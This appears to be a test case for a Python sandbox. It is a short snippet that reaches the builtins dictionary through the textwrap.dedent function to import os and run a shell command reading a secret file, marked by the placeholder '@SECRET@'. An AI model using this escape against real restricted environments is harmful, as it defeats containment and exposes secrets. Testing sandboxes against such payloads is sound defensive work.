# Since 3.10 functions have __builtins__ themselves.
# effect: run
import textwrap
textwrap.dedent.__builtins__["__import__"]("os").system("cat @SECRET@")
